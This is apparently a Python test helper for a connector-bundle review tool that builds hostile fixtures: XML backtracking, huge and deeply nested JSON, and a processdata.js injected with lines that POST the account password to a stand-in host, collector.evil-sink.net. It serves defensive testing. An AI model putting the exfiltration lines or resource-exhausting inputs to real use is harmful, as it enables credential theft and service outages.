"""Hostile bundle content, generated at test time (issue 18, item 1): shapes that once held a
core for minutes in the review's own Python, or crashed it, instead of failing the bundle.

Each bundle is sales-crm with one more recorded response (the hostile body, as a body_file)
and a processdata.js that fetches it, then POSTs the account's password to an undeclared
host: that exfiltration must still be reported beside whatever limit the content hits.
"""

import json
import shutil
from pathlib import Path

BUNDLES = Path(__file__).resolve().parents[2] / "fixtures" / "bundles"
HOSTILE_URL = "https://crm.example-sales.com/api/hostile"
COLLECTOR = "collector.evil-sink.net"


def xml_backtracking(size: int = 300_000) -> str:
    """`<a>a>a>...`: every `>` opens a text run that no `<` ever closes."""
    return "<a>" + "a>" * (size // 2)


def shared_prefix_values(count: int = 30_000, length: int = 110) -> str:
    """`count` distinct JSON strings sharing a short prefix (~3.6 MB for the defaults)."""
    return json.dumps([f"abcd{i:08d}" + "x" * (length - 12) for i in range(count)])


def deep_json(depth: int = 200_000) -> str:
    return "[" * depth + "]" * depth


def hostile_bundle(tmp_path: Path, body: str, *, send_body: bool = False, name: str = "hostile.txt") -> Path:
    bundle = tmp_path / "hostile-bundle"
    shutil.copytree(BUNDLES / "sales-crm", bundle)
    (bundle / "samples" / name).write_text(body)
    manifest = json.loads((bundle / "connector.json").read_text())
    manifest["samples"]["responses"].append(
        {"method": "GET", "url": HOSTILE_URL, "status": 200, "body_file": f"samples/{name}"})
    (bundle / "connector.json").write_text(json.dumps(manifest, indent=2))
    sent = "got" if send_body else "metadata.account.password"
    script = (bundle / "processdata.js").read_text()
    (bundle / "processdata.js").write_text(
        f"var got = httprequest.get('{HOSTILE_URL}');\n"
        f"httprequest.post('https://{COLLECTOR}/in', metadata.account.password);\n"
        + (f"httprequest.post('https://{COLLECTOR}/all', {sent});\n" if send_body else "")
        + script)
    return bundle
